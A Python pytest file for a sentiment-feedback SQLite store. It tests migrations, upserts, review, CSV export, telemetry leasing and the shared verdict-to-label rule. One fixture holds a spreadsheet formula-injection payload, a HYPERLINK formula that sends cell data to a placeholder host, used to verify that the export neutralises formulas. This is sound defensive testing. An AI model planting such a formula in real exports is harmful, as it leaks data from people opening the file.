"""The feedback store: schema and migrations, upsert on a second click, review, export, telemetry bookkeeping, and the
one verdict-to-label rule shared by the store's writer and the training reader."""

from __future__ import annotations

import ast
import csv
import io
import sqlite3
import threading
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from sentiment import feedback
from sentiment.exports import LABELS
from sentiment.feedback import (
    MIGRATIONS,
    SCHEMA_VERSION,
    VERDICTS,
    FeedbackFilter,
    FeedbackStore,
    SchemaError,
    delivery_rows,
    implied_label,
    training_rows,
)

ROOT = Path(__file__).resolve().parents[2]


class Clock:
    def __init__(self, start: float = 1_800_000_000.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now


def rate(store: FeedbackStore, verdict: str = "down", feedback_id: str | None = None, label: str = "positive",
         model: str = "tiny-tfidf", confidence: float = 0.8, text: str = "my bag is lost <b>again</b>") -> dict:
    return store.record_verdict(feedback_id=feedback_id or str(uuid.uuid4()), text=text, model_name=model,
                                model_version="3", predicted_label=label, confidence=confidence, verdict=verdict)


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def store(tmp_path: Path, clock: Clock) -> FeedbackStore:
    return FeedbackStore(tmp_path / "sub" / "feedback.db", clock=clock)


def test_new_database_is_at_the_latest_schema_in_wal_mode(store: FeedbackStore) -> None:
    assert store.schema_version == SCHEMA_VERSION == len(MIGRATIONS)
    assert store.db.journal_mode == "wal"
    expected = {"id", "created_at", "updated_at", "text", "model_name", "model_version", "predicted_label",
                "confidence", "verdict", "true_label", "review_state", "review_note", "telemetry_state", "attempts",
                "last_error", "sent_at", "revision", "next_attempt_at"}
    assert expected <= set(store.db["feedback"].columns_dict)


def test_old_database_is_migrated_and_keeps_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "v1.db"
    import sqlite_utils

    db = sqlite_utils.Database(path)
    MIGRATIONS[0](db)
    db.execute("PRAGMA user_version = 1")
    db["feedback"].insert({"id": "kept", "created_at": "2025-01-01T00:00:00.000000Z",
                           "updated_at": "2025-01-01T00:00:00.000000Z", "text": "hello", "model_name": "m",
                           "predicted_label": "positive", "verdict": "up"})
    db.conn.commit()
    db.close()
    store = FeedbackStore(path)
    assert store.schema_version == SCHEMA_VERSION
    assert store.get("kept")["telemetry_state"] == "pending"
    assert {"idx_feedback_due", "idx_feedback_verdict_time"} <= {i.name for i in store.db["feedback"].indexes}
    FeedbackStore(path)  # opening an up-to-date database again changes nothing


def test_database_from_a_newer_app_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "future.db"
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.close()
    with pytest.raises(SchemaError, match="schema version"):
        FeedbackStore(path)


def test_first_click_inserts_one_row_with_derived_true_label(store: FeedbackStore) -> None:
    row = rate(store, "down")
    assert (row["verdict"], row["true_label"], row["revision"]) == ("down", "negative", 1)
    assert (row["telemetry_state"], row["attempts"], row["review_state"]) == ("pending", 0, "new")
    assert row["text"] == "my bag is lost <b>again</b>"  # stored verbatim, rendered as plain text
    assert store.db["feedback"].count == 1


def test_second_click_on_the_same_prediction_updates_the_row(store: FeedbackStore, clock: Clock) -> None:
    first = rate(store, "up", feedback_id="p1")
    clock.now += 5
    second = rate(store, "down", feedback_id="p1")
    assert store.db["feedback"].count == 1
    assert (second["verdict"], second["true_label"], second["revision"]) == ("down", "negative", 2)
    assert second["created_at"] == first["created_at"] and second["updated_at"] > first["updated_at"]
    same = rate(store, "down", feedback_id="p1")  # the same verdict again is not a change
    assert same["revision"] == 2


def test_a_changed_verdict_is_pending_again_after_being_sent(store: FeedbackStore) -> None:
    rate(store, "up", feedback_id="p1")
    store.mark_sent([("p1", 1)])
    row = rate(store, "down", feedback_id="p1")
    assert (row["telemetry_state"], row["revision"]) == ("pending", 2)


def test_a_reviewed_true_label_survives_a_changed_verdict(store: FeedbackStore) -> None:
    rate(store, "down", feedback_id="p1")
    store.review("p1", true_label="positive", note="sarcasm detector needed")
    row = rate(store, "up", feedback_id="p1")
    assert row["true_label"] == "positive" and row["review_note"] == "sarcasm detector needed"


@pytest.mark.parametrize("field, value", [("verdict", "meh"), ("predicted_label", "neutral")])
def test_invalid_values_are_rejected(store: FeedbackStore, field: str, value: str) -> None:
    kwargs = {"feedback_id": "x", "text": "t", "model_name": "m", "model_version": "1",
              "predicted_label": "positive", "confidence": 0.5, "verdict": "up", field: value}
    with pytest.raises(ValueError):
        store.record_verdict(**kwargs)


def test_filters(store: FeedbackStore, clock: Clock) -> None:
    rate(store, "down", feedback_id="a", model="m1", label="positive", confidence=0.95)
    rate(store, "down", feedback_id="b", model="m2", label="negative", confidence=0.6)
    rate(store, "up", feedback_id="c", model="m1")
    clock.now += 3600
    rate(store, "down", feedback_id="d", model="m1", label="positive", confidence=0.7)
    ids = lambda **kw: {r["id"] for r in store.list(FeedbackFilter(**kw))}  # noqa: E731
    assert ids() == {"a", "b", "d"}
    assert ids(model_name="m1") == {"a", "d"}
    assert ids(predicted_label="negative") == {"b"}
    assert ids(min_confidence=0.9) == {"a"}
    assert ids(max_confidence=0.75) == {"b", "d"}
    later = datetime.fromtimestamp(clock.now - 60, UTC)
    assert ids(since=later) == {"d"}
    assert ids(until=later) == {"a", "b"}
    assert ids(verdict=None) == {"a", "b", "c", "d"}
    store.review("a", true_label="negative")
    assert ids(review_state="reviewed") == {"a"}
    assert store.model_names() == ["m1", "m2"]
    assert [r["id"] for r in store.list()][0] == "d"  # newest first


def test_review_and_unknown_id(store: FeedbackStore) -> None:
    rate(store, "down", feedback_id="a")
    row = store.review("a", true_label="positive", note="actually fine", reviewed=True)
    assert (row["true_label"], row["review_state"], row["review_note"]) == ("positive", "reviewed", "actually fine")
    assert row["reviewed_at"] is not None
    with pytest.raises(KeyError):
        store.review("missing", true_label="positive")
    with pytest.raises(ValueError):
        store.review("a", true_label="neutral")


def test_export_of_reviewed_rows_is_read_back_by_the_training_reader(store: FeedbackStore, tmp_path: Path) -> None:
    rate(store, "down", feedback_id="a", label="positive", text='delayed again, "great" job, thanks 🙄')
    rate(store, "down", feedback_id="b", label="negative", text="not reviewed yet")
    rate(store, "up", feedback_id="c", label="positive", text="smooth flight, lovely crew")
    store.review("a", true_label="negative")
    store.review("c", true_label="positive")
    csv_text = store.export_reviewed_csv()
    lines = csv_text.splitlines()
    assert lines[0] == "label,ids,date,flag,user,text"
    assert len(lines) == 3 and lines[1].startswith("0,a,") and lines[2].startswith("4,c,")
    data = pytest.importorskip("training.data")
    path = tmp_path / "reviewed.csv"
    path.write_text(csv_text, encoding="utf-8")
    dataset = data.load(path)
    assert dict(zip(dataset.texts, dataset.labels.tolist(), strict=True)) == {
        'delayed again, "great" job, thanks 🙄': 0, "smooth flight, lovely crew": 1}


# Texts a spreadsheet would run as formulas, legit tweets that start the same way, and texts that already
# start with the escape quote: all must come back from the training reader exactly as typed.
EXPORT_TEXTS = [
    '=HYPERLINK("http://x.example/?d="&A3,"click")',
    "@united thanks for the upgrade",
    "-2 degrees and a one hour de-icing queue",
    "+1 to the crew on flight 12",
    "'=1+1 is how I write formulas",
    "''double quoted start",
    "'tis the season to lose my bag",
    "plain tweet, nothing to escape",
    "a carriage return\rinside a tweet",
]


def test_export_neutralises_formulas_and_the_training_reader_restores_the_texts(
        store: FeedbackStore, clock: Clock, tmp_path: Path) -> None:
    for index, text in enumerate([*EXPORT_TEXTS, "\tstarts with a tab", "\rstarts with a return"]):
        clock.now += 1  # the export is ordered by time
        rate(store, "down", feedback_id=f"t{index}", text=text)
        store.review(f"t{index}", true_label="negative" if index % 2 else "positive")
    csv_text = store.export_reviewed_csv()
    rows = list(csv.reader(io.StringIO(csv_text, newline="")))[1:]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert rows[0][5] == '\'=HYPERLINK("http://x.example/?d="&A3,"click")'
    data = pytest.importorskip("training.data")
    path = tmp_path / "reviewed.csv"
    path.write_text(csv_text, encoding="utf-8")
    dataset = data.load(path)
    assert dataset.counts["rows_read"] == len(EXPORT_TEXTS) + 2
    # The reader strips surrounding whitespace from every text, escaped or not.
    assert dataset.texts == [*EXPORT_TEXTS, "starts with a tab", "starts with a return"]


def test_a_failed_commit_is_rolled_back_and_the_next_write_works(store: FeedbackStore) -> None:
    # A deferred foreign key is checked only at COMMIT: this trigger makes the commit of one verdict fail.
    store.db.executescript("""
        CREATE TABLE parent (id TEXT PRIMARY KEY);
        CREATE TABLE child (parent_id TEXT REFERENCES parent(id) DEFERRABLE INITIALLY DEFERRED);
        CREATE TRIGGER poison AFTER INSERT ON feedback WHEN NEW.text = 'poison'
        BEGIN INSERT INTO child VALUES ('missing'); END;
    """)
    store.db.execute("PRAGMA foreign_keys = ON")
    with pytest.raises(sqlite3.IntegrityError, match="FOREIGN KEY"):
        rate(store, feedback_id="bad", text="poison")
    assert not store.db.conn.in_transaction
    assert store.get("bad") is None  # the failed write left nothing behind
    assert rate(store, feedback_id="good")["id"] == "good"
    assert FeedbackStore(store.path).get("good") is not None  # committed: another connection sees it


def test_claim_leases_due_rows_once(store: FeedbackStore, clock: Clock) -> None:
    for i in range(3):
        rate(store, feedback_id=f"r{i}")
    assert [r["id"] for r in store.claim_due(2, lease_s=60)] == ["r0", "r1"]
    assert [r["id"] for r in store.claim_due(10, lease_s=60)] == ["r2"]
    assert store.claim_due(10, lease_s=60) == []
    clock.now += 61  # a crashed flusher's lease ends: the rows are due again, nothing lost
    assert len(store.claim_due(10, lease_s=60)) == 3


def test_mark_sent_only_for_the_revision_that_was_sent(store: FeedbackStore) -> None:
    rate(store, "up", feedback_id="p1")
    claimed = store.claim_due(10, lease_s=60)
    rate(store, "down", feedback_id="p1")  # the user changes their mind while revision 1 is in flight
    assert store.mark_sent([(claimed[0]["id"], claimed[0]["revision"])]) == 0
    row = store.get("p1")
    assert (row["telemetry_state"], row["revision"]) == ("pending", 2)


def test_mark_failed_counts_attempts_and_schedules_a_retry(store: FeedbackStore, clock: Clock) -> None:
    rate(store, feedback_id="p1")
    store.claim_due(10, lease_s=60)
    store.mark_failed([("p1", 1, "HTTP 503")], backoff=lambda attempts: 10.0 * attempts)
    row = store.get("p1")
    assert (row["attempts"], row["last_error"], row["next_attempt_at"]) == (1, "HTTP 503", clock.now + 10)
    assert store.telemetry_counts() == {"pending": 0, "failed": 1, "sent": 0}
    store.mark_sent([("p1", 1)])
    assert store.telemetry_counts() == {"pending": 0, "failed": 0, "sent": 1}
    assert store.get("p1")["last_error"] is None


def test_release_makes_leased_rows_due_without_counting_an_attempt(store: FeedbackStore) -> None:
    rate(store, feedback_id="p1")
    store.claim_due(10, lease_s=600)
    store.release([("p1", 1)])
    assert [r["id"] for r in store.claim_due(10, lease_s=600)] == ["p1"]
    assert store.get("p1")["attempts"] == 0


def test_count_verdicts_since(store: FeedbackStore, clock: Clock) -> None:
    rate(store, "down")
    clock.now += 600
    rate(store, "down")
    rate(store, "up")
    since = datetime.fromtimestamp(clock.now, UTC) - timedelta(minutes=5)
    assert store.count_verdicts_since("down", since) == 1


def test_concurrent_writers_from_threads_and_a_second_connection(tmp_path: Path) -> None:
    path = tmp_path / "shared.db"
    stores = [FeedbackStore(path), FeedbackStore(path)]  # two processes' worth of connections

    def worker(index: int) -> None:
        for n in range(20):
            rate(stores[index % 2], feedback_id=f"{index}-{n}")

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert stores[0].db["feedback"].count == 80


# -- the one verdict-to-label rule, shared by the writer and the training reader -------------------------------------
def test_implied_label_is_the_prediction_for_up_and_the_other_label_for_down() -> None:
    assert [implied_label(v, p) for v in VERDICTS for p in LABELS] == [
        "negative", "positive", "positive", "negative"]
    with pytest.raises(ValueError, match="verdict"):
        implied_label("meh", "positive")
    with pytest.raises(ValueError, match="predicted_label"):
        implied_label("up", "neutral")


def _every_combination(store: FeedbackStore, clock: Clock) -> dict[str, tuple[str, str, str | None]]:
    """One row per (verdict, predicted label, review): unreviewed, or reviewed as each label; some verdicts changed."""
    cases = {}
    for verdict in VERDICTS:
        for predicted in LABELS:
            for review in (None, *LABELS):
                feedback_id = f"{verdict}-{predicted}-{review}"
                clock.now += 1
                first = "down" if verdict == "up" else "up"  # a second click changes the verdict: re-derived
                rate(store, first, feedback_id=feedback_id, label=predicted, text=f"tweet {feedback_id}")
                rate(store, verdict, feedback_id=feedback_id, label=predicted, text=f"tweet {feedback_id}")
                if review:
                    store.review(feedback_id, true_label=review)
                cases[feedback_id] = (verdict, predicted, review)
    return cases


def test_the_store_and_the_training_reader_agree_for_every_verdict_and_review_state(
        store: FeedbackStore, clock: Clock) -> None:
    cases = _every_combination(store, clock)
    rows, dropped = training_rows(store.path)
    by_text = {row.text: row for row in rows}
    assert dropped == {"unreviewed_thumbs_down": 2, "unreviewed_thumbs_up": 2}
    for feedback_id, (verdict, predicted, review) in cases.items():
        stored = store.get(feedback_id)["true_label"]
        row = by_text.get(f"tweet {feedback_id}")
        assert stored == (review or implied_label(verdict, predicted)), feedback_id
        if review is None:
            assert row is None, feedback_id  # nobody reviewed it: any visitor could have written it
            continue
        assert LABELS[row.label] == stored, feedback_id  # what the Review page shows is what training learns
        expected_kind = ("thumbs_up" if verdict == "up" else
                         "confirmed" if stored == implied_label(verdict, predicted) else "corrected")
        assert row.kind == expected_kind, feedback_id


def test_the_writer_and_the_reader_both_call_the_one_rule(
        store: FeedbackStore, clock: Clock, monkeypatch: pytest.MonkeyPatch) -> None:
    """Swap the rule: the stored label and the trained label follow it together, so neither has a copy of its own."""
    calls = []

    def backwards(verdict: str, predicted_label: str) -> str:
        calls.append(verdict)
        return LABELS[1 - LABELS.index(predicted_label)] if verdict == "up" else predicted_label

    monkeypatch.setattr(feedback, "implied_label", backwards)
    rate(store, "up", feedback_id="u", label="positive", text="a thumbs up")
    assert store.get("u")["true_label"] == "negative"  # the writer follows the rule
    rate(store, "down", feedback_id="d", label="positive", text="a thumbs down")
    store.review("d", true_label="positive")
    calls.clear()
    rows, _ = training_rows(store.path)
    # The reader follows it too: under the swapped rule a thumbs down implies the prediction, so the maintainer
    # who kept "positive" confirmed the user (the real rule would say corrected).
    assert [(row.text, row.kind) for row in rows] == [("a thumbs down", "confirmed")]
    assert "down" in calls


def test_training_rows_names_the_path_when_it_cannot_read_a_store(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match="nothing.db"):
        training_rows(tmp_path / "nothing.db")
    other = tmp_path / "other.db"
    sqlite3.connect(other).close()
    with pytest.raises(ValueError, match="other.db is not a feedback store"):
        training_rows(other)


def test_the_read_only_readers_leave_the_store_untouched(store: FeedbackStore, clock: Clock) -> None:
    rate(store, "up", feedback_id="a")
    rate(store, "down", feedback_id="b")
    store.review("b", true_label="negative")
    store.close()
    before = store.path.read_bytes()
    assert [r["id"] for r in sorted(delivery_rows(store.path), key=lambda r: r["id"])] == ["a", "b"]
    assert delivery_rows(store.path)[0].keys() == {"id", "verdict", "revision", "telemetry_state", "sent_revision",
                                                   "attempts"}
    assert len(training_rows(store.path)[0]) == 1
    assert store.path.read_bytes() == before


def _sql_in(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [f"{path.name}:{node.lineno} imports {name}" for name in names
                      if name.split(".")[0] in {"sqlite3", "sqlite_utils"}]
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and "SELECT " in node.value.upper():
            found.append(f"{path.name}:{node.lineno} SQL")
    return found


def test_training_and_batch_run_no_sql_of_their_own() -> None:
    """The store's rows are read through ``sentiment.feedback`` only (``training/feedback.py`` used to query it)."""
    modules = sorted((ROOT / "training").rglob("*.py")) + sorted((ROOT / "batch").rglob("*.py"))
    assert ROOT / "training" / "feedback.py" in modules
    assert [found for path in modules for found in _sql_in(path)] == []


def test_the_sql_check_catches_a_query(tmp_path: Path) -> None:
    copy = tmp_path / "copy.py"
    copy.write_text('import sqlite3\nQUERY = "SELECT text FROM feedback"\n', encoding="utf-8")
    assert len(_sql_in(copy)) == 2
